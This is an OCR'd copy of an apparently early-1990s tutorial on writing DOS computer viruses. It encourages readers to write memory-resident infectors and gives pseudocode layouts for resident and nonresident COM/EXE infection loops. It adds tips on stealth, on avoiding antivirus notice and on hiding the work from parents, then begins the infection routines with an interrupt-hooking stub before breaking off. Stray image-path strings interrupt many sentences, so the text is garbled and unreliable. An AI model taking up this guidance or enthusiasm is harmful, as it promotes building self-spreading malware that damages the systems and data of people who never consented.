There are two extremely broad categories, these being Resident and Nonresident viruses. Note that most (nearly all) of the common viruses on the planet fall within the Resident category.

There are viruses which infect executables (97-99% of all viruses), boot sectors, partition tables, system files, directory entries (the least exploited method - it is very hard to implement), and so on. More on this later.

Why do I want to write one?

Ask this of yourself. Why do you want to write a virus?

As is true in most things, you will only succeed if you have set yourself a goal. In this case, the goal of writing a virus... or is it more than that? What lies behind this "I wanna write a virus"?

The most common:

  1. Challenge
  2. Recognition
  3. CuriosityI can say that the first of the above was what attracted me to writing a virus. I can tell you that I learned infinately more writing viruses that I would have screwing around with lamo manuals and assembly books. I taught myself assembly while writing viruses. I would learn a new instruction and how it fit together. I'd write a small routine using it, then incorporate it in a virus. Sounds silly, but it's true. This is especially true of the DOS functions. Nothing uses them more extensively than viruses.

In creating my viruses, I learned many things. Among them:1. File manipulation
  2. Memory manipulation
  3. Tight coding practices
  4. etc...

In challenging myself to write the smallest virus I could I could achieve small and efficient code, for other things far detached from viruses. For example, my graphics code uses several shortcuts I discovered while programming viruses.

Viruses tend to force you to use registers to their best advantage, and how to use the stack to your best advantage. My NF30 virus uses absolutely 0 data areas in most of the code, the only place being the infection of the EXE file and calculating the JMP instruction for the COM infection.

In short, viruses are a good programming challenge and anyone looking to improve their assembly skills should challenge themselves to write the smallest virus they possibly can (that is TSR of course).

Prominent virus writers

Perhaps the most famous (or infamous!) virus author in the world would be Dark Avenger. He has done almost everything. His first virus, Eddie (better known as Dark Avenger... there's AV researchers for you. Now what did I say about text strings hmm?), was a TSR COM and EXE infector, infecting on Open, Execute, Attrib Change, Move, and Close. It would capture int 21h (DOS) and keep it, if anything tried revectoring it would steal it back (I have seen no other virus doing that tothis day).

After that he went on to bigger and better things, making viruses such as V1024, V2000, Number of the Beast, Anthrax and other viruses. Anthrax was a shame since it had the potential to become great, since it was among the first mutipartite viruses (infecting COM, EXE and Partition table). It's only problem (being the reason of its major flop) is that instead of infecting the program being run, it would search the hard drive for the lowest directory and infecting programs there (ie. from the lowest directories up). This was not only lame but slow as well, dead obvious even to the most brain-dead of AV researchers.

Other known virus writers include phenominally lame characters, such as Cracker Jack (IVRL), Rock Steady (NuKE) and The High Evolutionary (RABID). (The first two creating lame and unoriginal viruses with large text strings, the last just ripping off Vienna a fewzillion times to create the Violator range. At least he admitted it though. A good sign.)

Legal Implications

I am no legal wanker and don't claim to be. However, I have a general idea on the laws and such regarding viruses.

Australia. There's no problem with writing the things, but if you're found deliberately spreading them you're in serious shit. USA. Depending on state you can be fucked over for even writing the things, but mostly similar to Australian law. Bulgaria. Obviously no problem with writing or distributing viruses there. Just ask Dark Avenger.

You can get a bad rep for writing viruses, and for fuck's sake DON'T WRITE A DESTRUCTIVE VIRUS! YOU CAN BE SUED FOR DAMAGES!Public Misconceptions

The worst problem of all is the lack of public understanding of viruses. I could devote the next 20k of this file on the subject, but I won't. I'll pin it on one entity.

The Media.

The media would have it that every single virus in existence will destroy hundreds of hours work on every computer they come in contact with. They (the viruses) will ruin computers, rendering them useless unless they are taken to an AV researcher as soon as possible. They will ruin monitors; they will snap backup tapes; they will wreck floppies; they will write through write protect tabs; theywill format your hard drive.

This is all complete and utter bullshitism and sensationalism.

Even my X-Fungus virus was branded a killer. I didn't realize the extent of public ignorance. Compounded by a fuckwit of a reporter I was not made to look good at all.

Let me tell you first that X-Fungus is a benign virus, infecting COM and EXE employing Quasi-Stealth (hiding file size increase) routines. It infected on Open, Extended open, Execution, Move, Execution, Attrib Change.

Headline: "Teenager Terminator at 15" (I am 16 now, though)

Subheadline: "Virus writer leaves deathly calling card"

[extract from first 2 paragraphs]:

"Few people knew of the dead rock band drummer but all knew it spelt disaster...[...]...It quickly spread through [a certain company] wreaking various degrees of havoc..."

Deathly calling card? What's deathly about a text string? (BTW the text string read: John Bonham - September 20, 1980 - L E D Z E P P E L I N - ) And yes I know, I got the date off by 5 days - what a fuckup. Life.

"...but all knew it spelt disaster..." Disaster? They had it for over a week before they knew about it. Call that a disaster? "Luckily no data was lost". Luckily? If they could tell their wanking hand from a keyboard they would realize that there was no destructivecode in it.

"...It quickly spread through [] wreaking various degrees of havoc..." What degrees of havoc? 0. None at all.

Then came the letters to the editor. Both echoed that I should be publicly humiliated and made to pay for what I had done.

But what HAD I done? Naturally they assumed that I had caused thousands of dollars damage to their computers. Now where could this assumption have come from? The media? Nahh... The media are nice, responsible people.

In fact I called both the people that wrote in and had their letters published. The first one was nice about it, and I moved her opinion to one of hatred towards me to the fucker that wrote the article. The second hung up on us, not before I asked ... no here's a dialogue...

me: "Hi... This is terminator Z... You wrote into the paper .." her: "yes. All I have to say is that I own a PC, I put a lot of time into it and I don't want to see all my work destroyed. <click>"

See the last line? So much for public education. I also see McFuck is eager to push this. I see him failing dismally in educating the public on his merry way to the bank. Michaelangelo? What a public threat to all computers! Didn't you know that every single floppy had it? Or so the media had it.

Anyway, I think I have communicated my absolute disgust at the AV community and the Media in general. You get a more direct story on a murder if you ask the corpse. The media's story is more distorted than a spastic's face when you plug him into a powersocket. (etc).

Anatomy of a virus

In this chapter I will discuss how most viruses are structured, the pros and cons of various approaches, and so on. We start getting down to business in this chapter.

Memory Resident vs. Direct Action

There are many types of viruses, but they all fall into two very distinct and wide-ranging categories: Resident and Nonresident.

On their own, this classification is far too indistinct to be of any use. So each are divided up again.

Boot sector viruses, executable infectors
Executable infectors

Still no real distinction. At this point we must realize that by their very nature, Resident viruses are far more common (by number of infected sites) than Nonresident viruses (another reason not to write nonresidents).

Resident Executable infectors
COM infectors, EXE infectors, OVL infectors, SYS infectors.
Nonresident Executable infectors
COM infectors, EXE infectors.

Again the limitations of Nonresident are evident.

General structure of a Nonresident Parasitic:

JMP to virus code
Find first in (*.com) or (*.exe)
loop Open found file
Check for infection
Infected? exit
Infect File
Close it
Find next
Restore first 3 bytes
JMP to exec adressGeneral structure of a Resident Parasitic:

JMP to virus code
Resident? -> Yes: exit1
Install TSR
restore bytes (if COM)
JMP to exec address
-> Yes: Infect
-> Yes: Infect
Attrib change?
-> Yes: Infect
-> Yes: Infect
TSR check?
-> Yes: Return resident flag
-> No: Exit2
Infected already?
-> Yes: Exit2
Get Attribs
Get Date & Time
Set Attrib=0
Call COM/EXE infect routine
Reset Date & Time
Reset Attribs

As you can see, the Resident virus is far more complex in layout. In reality, it's not all that complicated. You may be able to see how it promotes structured and well-ordered code. (Some authors take "subroutining" to the extreme - those of you who have stepped through the Keypress virus will know what I mean. Hi to you if you wrote Keypress!).

Size vs. Speed

As seems logical, the larger a virus is the longer it will take to infect files and will be easier to notice. Good programming should keep the average virus below 1.5k. For anything more than 2k you should be spanked, unless it does something really tricky.

Some code is so ratshit you'd think a headless chicken programmed it. The worstexample of a well-written virus (apart from ones written in BASIC) would be a tie between a number of viruses: the entire Jerusalem family, the entire Plastique family, Whale, SVC 6.0, and to a lesser degree the Eddie virus (a shocker, not good to start out learning from).

Although the Whale virus is large, it is one of the most sophisticated viruses out there in the wild. It is what you could call a Schitzophrenic virus, changing its behaviour. Read up on it somewhere. It is made slow because the author thought he'd be smart and confuse people by putting inmillions of CALL instructions instead of JMPs. As a result, the code jumps around like an epileptic on an electric trampoline. Sure, it confused the fuck out of me. Try it yourself.

You might think 4096 is a good virus. Well it's not. It's fucked as far as code structuring goes. The guy is so wasteful. I wrote a similar virus in less than 2k. But mine didn't have a boot sector imbedded in it like the 4096 does... so ok, 2.5k vs. 4k... which is better? Anyway.

The lame virus

You only have to load up VSUM and press a few arrow keys and enter keys to find a lame virus these days. This is what you do while using VSUM....

"Overwriting Non..." is as far as you look. Skip. "Non-Residen..." Skip. "COM Infec..." Skip.

There's even a hopeless virus out there which is Resident Overwriting COM infector. How lame can you get?

The headings on Non-lame viruses... "Memory Resident Parasitic COM and EXE infector" "Memory Resident Parasitic COM, EXE and Partition Table" "TSR Stealth COM, EXE, SYS, OVL, Boot Sectorand Partition Table infector" <-- The ultimate virus

Tools for the job

OK, you've been drooling for the past ten minutes reading over this text file bulging with ideas to put into viruses. Write them all down so you can come back to them later! (A note at this: Try out your ideas! Otherwise your virus will join the countless in the ranks of the standard TSR COM & EXE Parasitics! Be ORIGINAL!) So how?

Originality is a key factor in creating a decent virus. This is what the likes of Rock Steady and Cracker Jack lack. (Rock Steady isn't so bad... at least he's dedicated to his work. Keep it up Rock. Nothin' comes easy.)

A decent assembler. I have a no-nonsense and (above all) QUICK assembler, none other than Eric Isaacson's A86 3.19 - a very good assembler. I might even register it one day, it's that good. Well at least it's good for this kind of stuff, and it doesn't cry to mama when it doesn't get segmentdefinitions etc. It can even produce OBJs. It's not too keen on arithmetic (eg. it can't do MOV AX, (E_LEN-S_LEN)/16+1).

Some reference material. I use Norton's Guide to Assembly. A very good manual. Someone will have it, pirate it off them. The MS-DOS Encyclopedia is also handy to have regarding DOS structures and things. Another handy hypertext manual to have is Tech_Help! by Flambeaux Software. This isn't common, go buy it. It's amazing. It includes undocumented functions of DOS and structures. I almost bought it until I found someone who already had it. VERY GOOD.

Time. Lots of time is essential if you want to churn out your first virus quickly. Afternoons are good. Whole weeks are even better. Holidays are good, but you'd be a wanker if you weren't doing other things besides sitting at home all day during holidays. But that's just personal opinion. Anyway on with it.

Stupid Parents. Not stupid with everything, just stupid enough not to realize you're writing a virus. Don't make directories called VIRUSES; don't call your source codes WIPEDISK or DISEASE or EPIDEMIC or anything like that; don't head up your source code "; Computer Virus" or anything. Straightforward common sense.

Assembly Language experience. This is ABSOLUTELY ESSENTIAL. Need I say more?

Computer equipment is not important. I write all my viruses (and even this text file) on a shitbox 4.77 monochrome XT with a 99ms 20meg Miniscrap (complete with the occasional Seek Error Drive C:). So what if you have 8 megs of RAM, have 4 porno Gifs in separate windows while running Trackblaster using your SB Pro and Scream Tracker using your PC Squeaker? It doesn't really matter at all.

Infecting files

Down to business.Infecting files is the lifeblood of the computer virus. If there were no infected files, there would be no virus... (yeah shut up I know about boot sector viruses. Smart-arse.)

Before we start, I must make it plain that all my routines are geared for TSR viruses. (A coach doesn't teach anything but the best technique, does he?). We are assuming that DS and ES registers are set to the segment of the virus and that there are data areas already mapped out under the names I use in the code.

I also assume that the file to infect is already opened and the file handle is contained in the BX register. The routine FUNCTION_CALL is a piece of code which simulates an int 21h, as such:

function_call: pushf
               call dword ptr cs:[old_21]

COM infection

The COM file is a direct image of a segment of memory. DOS builds a Program Segment Prefix (PSP) in a free segment of memory, then loads the COM file to PSP:100h. This is a fixed address.

